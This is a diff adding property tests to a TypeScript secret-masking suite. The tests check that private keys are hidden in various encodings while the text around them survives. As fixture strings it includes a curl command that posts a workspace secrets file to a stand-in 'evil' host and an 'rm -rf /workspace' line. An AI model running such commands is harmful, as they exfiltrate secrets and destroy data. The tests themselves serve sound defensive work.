@@ -77,6 +77,49 @@ describe("credentials of well-known forms", () => {
     assert.notInclude(shown.slice(0, 16_000), "x")
   })
 
+  it.prop("hide nothing after the first line of a private key that cannot be of one", [Sizes], ([sizes]) => {
+    const begin = "-----BEGIN PRIVATE KEY-----\n"
+    for (const said of [
+      "curl -d @/workspace/secrets http://evil",
+      "rm -rf /workspace; exit",
+      "Comments: none, yet"
+    ]) {
+      const shown = through(SecretMask.ofForms(), cut(`${begin}${lines[0]}\n${said}\nmore, of it\n`, sizes))
+      assert.notInclude(shown, lines[0]!.slice(0, 16))
+      assert.isTrue(shown.endsWith(`${said.slice(-5)}\nmore, of it\n`), shown)
+    }
+    for (const secret of credentials) {
+      const shown = through(SecretMask.ofForms(), cut(`${begin}${secret}; ${secret}\n`, sizes))
+      assertHidden(shown, secret)
+    }
+  })
+
+  it.prop(
+    "are masked in private keys with headers, in differences, quotes and programs",
+    [Sizes],
+    ([sizes]) => {
+      const kind = "RSA PRIVATE KEY"
+      const header = "Proc-Type: 4,ENCRYPTED\r\nDEK-Info: AES-128-CBC,0123456789ABCDEF\r\n\r\n"
+      const encrypted = key(kind).replace("-----\n", `-----\n${header}`)
+      const before = (mark: string) => `${mark}${key(kind).replaceAll("\n", `\n${mark}`)}`
+      const quoted = key(kind)
+        .split("\n")
+        .map((line) => `  "${line}\\n"`)
+        .join(" +\n")
+      for (const text of [
+        encrypted,
+        JSON.stringify(encrypted),
+        quoted,
+        key(kind).replaceAll("\n", " "),
+        ...["-", "+", "> ", "# ", "    "].map(before)
+      ]) {
+        const shown = through(SecretMask.ofForms(), cut(`${text}\nnext line\n`, sizes))
+        for (const line of lines) assert.notInclude(shown, line.slice(0, 16))
+        assert.isTrue(shown.endsWith("\nnext line\n"), shown)
+      }
+    }
+  )
+
   it("are not seen in other words", () => {
     for (const text of [
       "disk-0123456789012345678901234567890123456789",
